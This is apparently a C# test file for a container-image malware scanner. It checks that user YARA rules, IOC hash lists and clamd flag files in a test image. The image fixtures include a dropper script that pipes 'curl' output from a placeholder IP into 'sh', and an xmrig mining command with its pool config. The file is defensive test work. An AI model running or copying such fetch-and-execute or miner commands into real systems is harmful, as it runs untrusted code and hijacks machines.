using System.Security.Cryptography;
using System.Text;
using Drydock.Analysis.Content;
using Drydock.Detection.Malware;
using Drydock.Reporting;
using Drydock.Tests.Analysis.UserRules;
using Drydock.Tests.Fixtures;
using Drydock.Tests.Support;

namespace Drydock.Tests.Cli;

/// <summary><c>drydock scan</c> with <c>--yara-rules</c>, <c>--ioc-file</c> and <c>--clamd</c> over an image built here:
/// real libyara, a real clamd, files a later layer deletes.</summary>
public sealed class UserRuleCommandTests
{
    // The built-in scanners also judge these files (the staged script runs a miner); these tests are about the user's rules.
    private static List<MalwareFinding> UserRuleHits(ScanReport report) => [.. report.Malware.Where(f => f.Source == "user-rule")];

    private const string MinerConfig = "{\n  \"pools\": [{ \"url\": \"stratum+tcp://pool.example.org:3333\", \"user\": \"wallet\" }]\n}\n";
    private static readonly byte[] Dropper = Encoding.UTF8.GetBytes("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n");

    private static readonly Lazy<string> ImageReference = new(() => OciLayoutWriter.Write(RepoPaths.Scratch("user-rules-image"), "v1",
        new TarBuilder()
            .Directory("opt").Directory("opt/miner").File("opt/miner/config.json", MinerConfig)
            .Directory("usr").Directory("usr/local").Directory("usr/local/bin").File("usr/local/bin/dropper", Dropper, 0x1ed)
            .Directory("srv").File("srv/body.bin", "header " + ClamdClientTests.MinerText + " trailer").File("srv/hashed.bin", ClamdClientTests.HashedFile)
            .Directory("etc").File("etc/hostname", "box\n")
            .Directory("tmp").File("tmp/stage.sh", "#!/bin/sh\n./xmrig -o stratum+tcp://pool.example.org:443\n", 0x1ed)
            .Build(),
        new TarBuilder().Whiteout("tmp/stage.sh").Build()));

    private const string Rules = """
        rule miner_pool
        {
            meta:
                category = "coin-miner"
                confidence = "high"
                description = "Stratum mining-pool URL"
            strings:
                $pool = "stratum+tcp://"
            condition:
                $pool
        }
        """;

    private static string WriteFile(string name, string text)
    {
        var path = Path.Combine(RepoPaths.Scratch("user-rules"), name);
        File.WriteAllText(path, text);
        return path;
    }

    private static Task<CliRunner.Run> ScanAsync(params string[] options)
        => CliRunner.InProcessAsync(["scan", ImageReference.Value, "--format", "json", "--no-cache", "-q", "--scanners", "malware", .. options]);

    private static void AssertOneLineError(CliRunner.Run run, string expected)
    {
        Assert.Equal(2, run.ExitCode);
        var line = Assert.Single(run.Stderr.Split('\n', StringSplitOptions.RemoveEmptyEntries));
        Assert.StartsWith("drydock: ", line);
        Assert.Contains(expected, line);
        Assert.Empty(run.Stdout);
    }

    [LibyaraFact]
    public async Task Yara_rules_find_the_miner_config_and_the_deleted_script_and_fail_the_build()
    {
        var run = await ScanAsync("--yara-rules", WriteFile("miners.yar", Rules), "--fail-on-malware");

        Assert.True(run.ExitCode == 1, run.Stderr);
        var report = run.Report;
        Assert.Equal(VerdictKind.Malicious, report.Verdict!.Verdict);
        Assert.Equal([ThreatCategory.CoinMiner], report.Verdict.Categories);
        var config = UserRuleHits(report).Single(f => f.Path == "/opt/miner/config.json");
        Assert.Equal(("yara/miners/miner_pool", ThreatCategory.CoinMiner, Confidence.High, "user-rule", false),
            (config.RuleId, config.Category, config.Confidence, config.Source, config.Deleted));
        Assert.Equal("Stratum mining-pool URL", config.Title);
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(MinerConfig))), config.Sha256);
        var evidence = Assert.Single(config.Evidence);
        Assert.Equal(("$pool: stratum+tcp://", MinerConfig.IndexOf("stratum", StringComparison.Ordinal)), (evidence.Value, (int)evidence.Offset!.Value));

        var stage = UserRuleHits(report).Single(f => f.Path == "/tmp/stage.sh");
        Assert.True(stage.Deleted);
        Assert.Equal(report.Artifact.Layers[1].DiffId, stage.DeletedIn);
        Assert.Equal(2, UserRuleHits(report).Count);
    }

    [LibyaraFact]
    public async Task A_rule_syntax_error_is_one_line_with_file_and_line_and_exit_two()
    {
        var rules = WriteFile("broken.yar", "rule broken\n{\n    condition: filesize >\n}\n");
        AssertOneLineError(await ScanAsync("--yara-rules", rules), "broken.yar:4: syntax error");
    }

    [Fact]
    public async Task An_ioc_list_matches_a_file_by_its_sha256()
    {
        var hash = Convert.ToHexStringLower(SHA256.HashData(Dropper));
        var run = await ScanAsync("--ioc-file", WriteFile("iocs.txt", $"# campaign 42\n{new string('0', 64)} unrelated\n{hash}  dropper.sh\n"));

        Assert.True(run.ExitCode == 0, run.Stderr);
        var finding = Assert.Single(UserRuleHits(run.Report));
        Assert.Equal(("/usr/local/bin/dropper", "ioc/sha256", ThreatCategory.KnownBadHash, Confidence.High, hash, "user-rule"),
            (finding.Path, finding.RuleId, finding.Category, finding.Confidence, finding.Sha256, finding.Source));
        Assert.Equal(VerdictKind.Malicious, run.Report.Verdict!.Verdict);
    }

    [Fact]
    public async Task A_malformed_ioc_list_is_one_line_naming_the_line()
        => AssertOneLineError(await ScanAsync("--ioc-file", WriteFile("bad-iocs.txt", "# ok\nnot-a-hash\n")), "bad-iocs.txt:2");

    [ClamdFact]
    public async Task A_real_clamd_finds_body_and_hash_signatures_in_image_files()
    {
        await using var daemon = await ClamdDaemon.StartAsync(ClamdClientTests.Signatures());
        var run = await ScanAsync("--clamd", daemon.UnixAddress);

        Assert.True(run.ExitCode == 0, run.Stderr);
        var report = run.Report;
        Assert.Equal(
            [("/srv/body.bin", "clamd/DrydockTest.Unix.Coinminer.Body.UNOFFICIAL", ThreatCategory.CoinMiner),
             ("/srv/hashed.bin", "clamd/DrydockTest.Win.Trojan.Hashed.UNOFFICIAL", ThreatCategory.WindowsMalware)],
            UserRuleHits(report).OrderBy(f => f.Path, StringComparer.Ordinal).Select(f => (f.Path!, f.RuleId, f.Category)));
        Assert.All(UserRuleHits(report), f => Assert.Equal((Confidence.High, "user-rule"), (f.Confidence, f.Source)));
        Assert.Equal("DrydockTest.Unix.Coinminer.Body.UNOFFICIAL", UserRuleHits(report).Single(f => f.Path == "/srv/body.bin").Evidence.Single().Value);
        Assert.Contains(report.Warnings, w => w.Code == "clamd-no-database-version");
    }

    [Theory]
    [InlineData("--clamd", "tcp:192.0.2.1:3310", "loopback")]
    [InlineData("--clamd", "unix:/nonexistent/clamd.sock", "--clamd unix:/nonexistent/clamd.sock")]
    [InlineData("--ioc-file", "/nonexistent/iocs.txt", "/nonexistent/iocs.txt")]
    [InlineData("--yara-rules", "/nonexistent/rules", "no such file or directory")]
    public async Task Bad_user_rule_options_are_one_line_and_exit_two(string option, string value, string expected)
        => AssertOneLineError(await ScanAsync(option, value), expected);

    [Fact]
    public async Task User_rules_need_the_malware_scanner()
    {
        var run = await CliRunner.InProcessAsync("scan", ImageReference.Value, "--no-cache", "-q", "--scanners", "vuln", "--ioc-file", "/dev/null");
        AssertOneLineError(run, "malware");
    }
}
